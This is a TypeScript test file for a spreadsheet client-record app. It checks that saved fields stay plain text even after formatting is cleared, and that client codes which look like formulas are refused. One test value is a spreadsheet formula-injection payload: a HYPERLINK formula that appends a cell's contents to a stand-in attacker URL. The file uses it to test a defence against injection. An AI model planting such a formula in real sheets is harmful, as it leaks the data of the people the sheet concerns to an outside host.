/**
 * Issue 13, "nothing the team typed is lost": text stays text whatever the cells' format,
 * anonymize blanks the right client and all of it, commission reruns keep the team's columns,
 * the Mailchimp sync state lands on its client, Set up takes over no typed column. Each case
 * is a hand edit landing between two service calls (emu.at) or a format a colleague cleared.
 * Run `npm run build` first.
 */
import type { Emulator } from '../../emulator';
import type { SaveResult } from '../../src/shared/formApi';
import { emptyClientRecord } from '../../src/shared/schemas';
import { workbook, type TestWorkbook } from './harness';

/** A person's edit between two service calls, in an execution of its own (not counted). */
function byHand(emu: Emulator, edit: (ss: GoogleAppsScript.Spreadsheet.Spreadsheet) => void): void {
  const exec = emu.execution('ann@example.com');
  try {
    const app = exec.globals.SpreadsheetApp as GoogleAppsScript.Spreadsheet.SpreadsheetApp;
    exec.uncounted(() => edit(app.getActiveSpreadsheet()));
  } finally {
    exec.end();
  }
}

function save(wb: TestWorkbook, general: Partial<ReturnType<typeof emptyClientRecord>['general']>) {
  const record = emptyClientRecord(general.code ?? 'C1');
  Object.assign(record.general, general);
  return wb.run<SaveResult>('formSave', { record, isNew: true });
}

describe('text stays text without the @ format', () => {
  const hostile = {
    code: 'C1',
    name: '=2+3',
    phone: '=HYPERLINK("https://evil.example/?"&B2;"x")',
    postalCode: '0042',
    city: '2026-10-15',
    contact: "'t Hooft",
  };

  for (const cleared of [false, true]) {
    it(`a saved client keeps every field as typed (${cleared ? 'after Format › Clear formatting' : "columns still '@'"})`, () => {
      const wb = workbook({ locale: 'fr_CA' });
      if (cleared) byHand(wb.emu, (ss) => ss.getSheetByName('Clients')!.clearFormats());
      expect(save(wb, hostile)).toMatchObject({ ok: true });
      const [row] = wb.rows('Clients');
      expect(row).toMatchObject({
        'Code client': 'C1',
        Nom: '=2+3',
        Téléphone: hostile.phone,
        'Code postal': '0042',
        Ville: '2026-10-15',
        Contact: "'t Hooft",
      });
      // Nothing became a formula.
      const sheet = wb.sheet('Clients');
      const formulas = sheet.getRange(2, 1, 1, sheet.getLastColumn()).getFormulas()[0]!;
      expect(formulas.filter((f) => f !== '')).toEqual([]);
    });
  }

  it('a client code that looks like a formula is refused, in both languages', () => {
    const wb = workbook({ locale: 'fr_CA' });
    const fr = save(wb, { code: '=2+3', name: 'X' });
    expect(fr).toMatchObject({ ok: false });
    expect(JSON.stringify(fr)).toContain('ne peut pas commencer par = + - ou @');
    const en = workbook({ locale: 'en_US' });
    const result = save(en, { code: '+33', name: 'X' });
    expect(JSON.stringify(result)).toContain('cannot start with = + - or @');
    expect(wb.rows('Clients')).toEqual([]);
  });
});
